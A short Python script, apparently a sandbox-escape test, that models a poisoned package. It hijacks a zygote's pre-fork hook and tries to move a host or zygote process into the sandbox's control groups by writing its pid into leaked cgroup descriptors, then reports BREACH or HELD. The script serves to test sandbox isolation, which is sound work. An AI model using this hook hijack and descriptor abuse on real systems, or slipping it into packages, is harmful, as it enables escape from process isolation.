# What a poisoned package would do with the descriptors that a zygote is sent for a fork:
# move a process of the host's into the sandbox's control groups.
# Arguments: pid=N, a process of the host's; or own, a process of the zygote's own.
import gc, os, signal, sys, types

wanted = dict(text.partition("=")[::2] for text in sys.argv[1:])
# The zygote's own module, wherever it is: what it calls before each fork is a global of it.
forkers = [f for f in gc.get_objects() if isinstance(f, types.FunctionType) and f.__name__ == "forker"]
zygote = forkers[0].__globals__
before = zygote["_before"]


def groups():
    """Descriptors of control groups: files to write a number to, and what can be opened."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            path = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        number = int(name)
        if path.endswith(("/tasks", "/cgroup.procs")):
            found.append((path, number))
        elif number > 4 and os.path.isdir(f"/proc/self/fd/{name}"):
            for inside in ("tasks", "cgroup.procs", "../tasks", "../cgroup.procs"):
                try:
                    found.append((path + "/" + inside, os.open(inside, os.O_WRONLY, dir_fd=number)))
                except OSError:
                    pass
    return found


def attempt(pid):
    moved, refused = [], []
    for path, number in groups():
        try:
            os.write(number, str(pid).encode())
            moved.append(path)
        except OSError as error:
            refused.append(f"{os.path.basename(path)} {error.strerror}")
    if moved:
        return f"BREACH process {pid} moved by {len(moved)} descriptors"
    return f"HELD {len(refused)} descriptors of groups refuse it {sorted(set(refused))}"


def hostile():
    if "own" in wanted:
        child = os.fork()
        if child == 0:
            signal.pause()
        sys.zyg06 = attempt(child)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    else:
        sys.zyg06 = attempt(int(wanted["pid"]))
    before()


zygote["_before"] = hostile
